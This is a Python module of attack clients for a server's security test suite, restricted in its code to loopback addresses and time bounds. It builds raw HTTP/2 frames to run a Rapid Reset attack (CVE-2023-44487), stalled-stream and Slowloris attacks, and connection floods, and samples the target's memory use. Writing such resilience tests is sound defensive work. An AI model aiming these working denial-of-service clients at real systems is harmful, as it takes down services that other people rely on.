"""Hostile clients for the attack suite (docs/SECURITY.md): raw HTTP/2 frames built with the
`h2` package's HPACK encoder (Debian's python3-h2) and plain sockets. Loopback only: every
attack takes a port on 127.0.0.1 and a time bound, and stops by itself. Attackers connect from
ATTACKER (127.0.0.2, also loopback) so that a proxy's per-address limits tell them apart from
the legitimate client on 127.0.0.1, as they would tell two hosts apart.

Each attack runs on its own thread (`Attack.start`) and counts what it did in `Attack.stats`.
"""
import os
import select
import socket
import struct
import threading
import time

import hpack

# HTTP/2 frame types and flags (RFC 9113).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ATTACKER = "127.0.0.2"
CANCEL = 8

EVALUATE_HEADERS = [
    (":method", "POST"), (":scheme", "http"), (":path", "/ModelService/EvaluateModel"),
    (":authority", "127.0.0.1"), ("content-type", "application/grpc"), ("te", "trailers"),
]


def connect(port, timeout=10):
    """A TCP connection from the attacker's address to 127.0.0.1:port."""
    return socket.create_connection(("127.0.0.1", port), timeout=timeout,
                                    source_address=(ATTACKER, 0))


def frame(kind, flags, stream_id, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream_id & 0x7FFFFFFF) + payload)


def grpc_prefix(length):
    """The 5-byte gRPC message prefix: not compressed, `length` bytes follow."""
    return b"\x00" + struct.pack(">I", length)


def header_block():
    # Literal fields with incremental indexing carry their own name and value, so the same
    # bytes decode to the same headers every time they are sent.
    return hpack.Encoder().encode(EVALUATE_HEADERS)


class H2Socket:
    """A raw HTTP/2 client connection: preface and SETTINGS sent; a reader thread answers the
    server's SETTINGS and PINGs, grants flow-control window back, and records GOAWAY,
    RST_STREAM and the close."""

    def __init__(self, port, window=1 << 30):
        self.sock = connect(port)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.goaway = None        # (last stream id, error code) of the first GOAWAY
        self.goaway_at = None     # time.monotonic() when it arrived
        self.resets = 0           # RST_STREAM frames from the server
        self.stream_ends = {}     # stream id -> time.monotonic() of its RST_STREAM or last HEADERS
        self.closed_at = None     # time.monotonic() when the server closed the connection
        self.send_window = 65535  # the server's connection window for our DATA
        self.window_granted = threading.Condition(self.lock)
        # SETTINGS_INITIAL_WINDOW_SIZE (4): large, so the server's answers never stall.
        settings = struct.pack(">HI", 4, min(window, (1 << 31) - 1))
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings) +
                  frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", window - 65535)))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, data):
        """False once the connection is gone."""
        try:
            with self.lock:
                self.sock.sendall(data)
            return True
        except OSError:
            if self.closed_at is None:
                self.closed_at = time.monotonic()
            return False

    def wait_for_window(self, size, timeout):
        deadline = time.monotonic() + timeout
        with self.window_granted:
            while self.send_window < size and self.closed_at is None:
                left = deadline - time.monotonic()
                if left <= 0:
                    return False
                self.window_granted.wait(left)
            if self.closed_at is not None:
                return False
            self.send_window -= size
            return True

    def _read(self):
        buffer = b""
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    break
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags = buffer[3], buffer[4]
                    stream_id = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
                    payload, buffer = buffer[9:9 + length], buffer[9 + length:]
                    self._on_frame(kind, flags, stream_id, payload)
        except OSError:
            pass
        with self.lock:
            if self.closed_at is None:
                self.closed_at = time.monotonic()
            self.window_granted.notify_all()

    def _on_frame(self, kind, flags, stream_id, payload):
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY and self.goaway is None:
            self.goaway = struct.unpack(">II", payload[:8])
            self.goaway_at = time.monotonic()
        elif kind == RST_STREAM:
            self.resets += 1
            self.stream_ends.setdefault(stream_id, time.monotonic())
        elif kind == HEADERS and flags & END_STREAM:  # trailers, or an answer such as 408
            self.stream_ends.setdefault(stream_id, time.monotonic())
        elif kind == WINDOW_UPDATE and stream_id == 0:
            with self.window_granted:
                self.send_window += struct.unpack(">I", payload)[0] & 0x7FFFFFFF
                self.window_granted.notify_all()
        elif kind == DATA and payload:
            # Grant back what the server sent so its answers keep flowing.
            update = struct.pack(">I", len(payload))
            self.send(frame(WINDOW_UPDATE, 0, 0, update) +
                      (frame(WINDOW_UPDATE, 0, stream_id, update) if stream_id else b""))

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


class Attack:
    """Runs `self.run(deadline)` on a thread until `seconds` pass; `stats` says what it did."""

    def __init__(self, seconds):
        self.seconds = seconds
        self.stats = {}
        self.thread = None
        self.error = None

    def start(self):
        def body():
            try:
                self.run(time.monotonic() + self.seconds)
            except Exception as error:  # reported by join(), not lost on the thread
                self.error = error
        self.thread = threading.Thread(target=body, daemon=True)
        self.thread.start()
        return self

    def join(self):
        self.thread.join(self.seconds + 30)
        if self.error is not None:
            raise self.error
        return self.stats


def evaluate_message(rows=1):
    """A valid EvaluateModel request (inRequest, field 1: the seed's JSON) as one gRPC message."""
    inputs = ", ".join(f'"x_{i}": [{", ".join(["0.5"] * rows)}]' for i in (1, 2, 3))
    json = ('{"analyticSettings": {"tunableParams": {"bias_weight_array": '
            '[0.1, 0.2, 0.3, 0.4, 0.5]}}, "inputs": {' + inputs + '}}').encode()
    length, varint = len(json), b""
    while True:
        varint += bytes([(length & 0x7F) | (0x80 if length > 0x7F else 0)])
        length >>= 7
        if not length:
            break
    message = b"\x0a" + varint + json
    return grpc_prefix(len(message)) + message


class RapidReset(Attack):
    """CVE-2023-44487: HEADERS (with a whole valid request when `with_request`) then
    RST_STREAM(CANCEL), as fast as the connection takes them, on `connections` connections. A
    connection the other side closes is opened again. With `reset_after` (seconds), each batch
    of 90 requests is sent whole and reset that much later, so that a proxy has passed the calls
    on before they are cancelled (90: under the usual limit of 100 open streams)."""

    def __init__(self, port, seconds, connections=1, batch=200, with_request=True,
                 reset_after=0.0):
        super().__init__(seconds)
        self.port, self.connections = port, connections
        self.batch = 90 if reset_after else batch
        self.request = evaluate_message() if with_request else None
        self.reset_after = reset_after

    def run(self, deadline):
        threads = [threading.Thread(target=self._one, args=(deadline,))
                   for _ in range(self.connections)]
        self.stats = {"streams": 0, "connections": 0, "goaways": 0, "refused_connections": 0}
        self.lock = threading.Lock()
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        self.stats["streams_per_s"] = round(self.stats["streams"] / self.seconds)

    def _one(self, deadline):
        block = header_block()
        while time.monotonic() < deadline:
            try:
                conn = H2Socket(self.port)
            except OSError:
                with self.lock:
                    self.stats["refused_connections"] += 1
                time.sleep(0.05)
                continue
            with self.lock:
                self.stats["connections"] += 1
            stream_id, sent = 1, 0
            while time.monotonic() < deadline and stream_id < (1 << 31) - 2 * self.batch:
                ids = range(stream_id, stream_id + 2 * self.batch, 2)
                calls = [frame(HEADERS, END_HEADERS, s, block) +
                         (frame(DATA, END_STREAM, s, self.request) if self.request else b"")
                         for s in ids]
                resets = [frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL)) for s in ids]
                if self.reset_after:
                    sent_all = conn.send(b"".join(calls))
                    time.sleep(self.reset_after)
                    sent_all = sent_all and conn.send(b"".join(resets))
                else:
                    sent_all = conn.send(b"".join(c + r for c, r in zip(calls, resets)))
                if not sent_all:
                    break
                stream_id += 2 * self.batch
                sent += self.batch
            conn.close()
            with self.lock:
                self.stats["streams"] += sent
                self.stats["goaways"] += conn.goaway is not None


class StalledStreams(Attack):
    """Each of `streams` streams on each of `connections` connections announces a message of
    `announce` bytes, sends `send_bytes` of it as fast as flow control allows, then stalls
    (trickling `trickle_bytes` every `trickle_every` s) until the deadline or the server ends
    it. Records when the server ended each connection: what bounds a stalled call in time."""

    def __init__(self, port, seconds, connections=1, streams=1, announce=(1 << 31) - 1,
                 send_bytes=0, trickle_bytes=64, trickle_every=1.0):
        super().__init__(seconds)
        self.port, self.connections, self.streams = port, connections, streams
        self.announce, self.send_bytes = announce, send_bytes
        self.trickle_bytes, self.trickle_every = trickle_bytes, trickle_every

    def run(self, deadline):
        start = time.monotonic()
        conns = [H2Socket(self.port) for _ in range(self.connections)]
        block = header_block()
        pushed = 0
        for conn in conns:
            for i in range(self.streams):
                conn.send(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) +
                          frame(DATA, 0, 1 + 2 * i, grpc_prefix(self.announce)))
        # Push send_bytes per stream, in 16 KiB frames, as far as the server's window lets us.
        chunk = os.urandom(16384)
        for conn in conns:
            for i in range(self.streams):
                left = self.send_bytes
                while left > 0 and time.monotonic() < deadline:
                    n = min(left, len(chunk))
                    if not conn.wait_for_window(n, max(0.0, deadline - time.monotonic())):
                        break
                    if not conn.send(frame(DATA, 0, 1 + 2 * i, chunk[:n])):
                        break
                    left -= n
                    pushed += n
        trickled = 0
        def live(conn):
            return conn.closed_at is None and len(conn.stream_ends) < self.streams

        while time.monotonic() < deadline and any(live(c) for c in conns):
            for conn in conns:
                if conn.closed_at is None:
                    for i in range(self.streams):
                        if 1 + 2 * i in conn.stream_ends:
                            continue
                        if conn.send(frame(DATA, 0, 1 + 2 * i, b"\x00" * self.trickle_bytes)):
                            trickled += self.trickle_bytes
            time.sleep(self.trickle_every)
        self.stats = {
            "pushed_bytes": pushed, "trickled_bytes": trickled,
            "goaway_after_s": [round(c.goaway_at - start, 1) if c.goaway_at else None
                               for c in conns],
            "goaways": sum(c.goaway is not None for c in conns),
            "closed_after_s": [round(c.closed_at - start, 1) if c.closed_at else None
                               for c in conns],
            # When the last stream of each connection was ended (answered or reset).
            "streams_ended_after_s": [
                round(max(c.stream_ends.values()) - start, 1)
                if len(c.stream_ends) >= self.streams else None for c in conns],
        }
        for conn in conns:
            conn.close()


class Slowloris(Attack):
    """Keeps `connections` connections to an HTTP/1.1 port busy sending a request that never
    ends, a byte every `every` seconds; a connection the server closes is opened again.
    stats: connections opened, and how long the server let each closed one live (max)."""

    def __init__(self, port, seconds, connections=64, every=1.0):
        super().__init__(seconds)
        self.port, self.connections, self.every = port, connections, every

    def run(self, deadline):
        text = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
        live = []  # [socket, opened at, bytes sent]
        opened, lifetimes = 0, []
        while time.monotonic() < deadline:
            while len(live) < self.connections:
                try:
                    live.append([connect(self.port, timeout=2), time.monotonic(), 0])
                    opened += 1
                except OSError:
                    break
            for entry in list(live):
                sock, since, sent = entry
                try:
                    sock.sendall(text[sent:sent + 1])
                    entry[2] += 1
                except OSError:
                    lifetimes.append(time.monotonic() - since)
                    sock.close()
                    live.remove(entry)
            # Notice closes as they happen (EOF or reset), not at the next byte sent.
            pause = time.monotonic() + self.every
            while live and time.monotonic() < pause:
                ready, _, _ = select.select([entry[0] for entry in live], [], [],
                                            max(0.0, pause - time.monotonic()))
                for entry in [e for e in live if e[0] in ready]:
                    try:
                        if entry[0].recv(65536):
                            continue  # an answer (e.g. 408), the close follows
                    except OSError:
                        pass
                    lifetimes.append(time.monotonic() - entry[1])
                    entry[0].close()
                    live.remove(entry)
            time.sleep(max(0.0, pause - time.monotonic()))
        for sock, _, _ in live:
            sock.close()
        self.stats = {"opened": opened, "closed_by_server": len(lifetimes),
                      "longest_life_s": round(max(lifetimes), 1) if lifetimes else None}


class IdleFlood(Attack):
    """Opens up to `count` HTTP/2 connections (preface and SETTINGS, then nothing) and holds
    them until the deadline. stats: connections opened; how many the other side had closed."""

    def __init__(self, port, seconds, count):
        super().__init__(seconds)
        self.port, self.count = port, count

    def run(self, deadline):
        socks = []
        for _ in range(self.count):
            try:
                sock = connect(self.port, timeout=2)
                sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
                socks.append(sock)
            except OSError:
                break
        self.stats = {"opened": len(socks)}
        while time.monotonic() < deadline:
            time.sleep(0.1)
        self.stats["closed_by_server"] = count_closed(socks)


def count_closed(socks):
    """How many of `socks` the other side has closed (EOF or reset); closes them all."""
    closed = 0
    for sock in socks:
        sock.setblocking(False)
        try:
            while sock.recv(65536):  # what the server sent (its SETTINGS, a GOAWAY), then EOF
                pass
            closed += 1
        except BlockingIOError:
            pass  # still open
        except OSError:
            closed += 1  # reset
        sock.close()
    return closed


class ConnectionFlood(Attack):
    """Opens up to `count` TCP connections that send nothing and holds them until the deadline.
    stats: connections opened; how many the server closed while held (the handshake timeout)."""

    def __init__(self, port, seconds, count):
        super().__init__(seconds)
        self.port, self.count = port, count

    def run(self, deadline):
        socks = []
        for _ in range(self.count):
            try:
                socks.append(connect(self.port, timeout=2))
            except OSError:
                break
        opened = len(socks)
        self.stats = {"opened": opened}
        while time.monotonic() < deadline:
            time.sleep(0.1)
        self.stats["closed_by_server"] = count_closed(socks)


def rss_mib(pid):
    """Resident set size of process `pid` in MiB, or None once it is gone."""
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        return None
    return None


class RssSampler:
    """Samples a process's RSS every `every` s on a thread until stop()."""

    def __init__(self, pid, every=0.25):
        self.pid, self.every, self.samples = pid, every, []
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stopping.is_set():
            rss = rss_mib(self.pid)
            if rss is not None:
                self.samples.append(rss)
            self.stopping.wait(self.every)

    def stop(self):
        self.stopping.set()
        self.thread.join()
        return max(self.samples) if self.samples else None
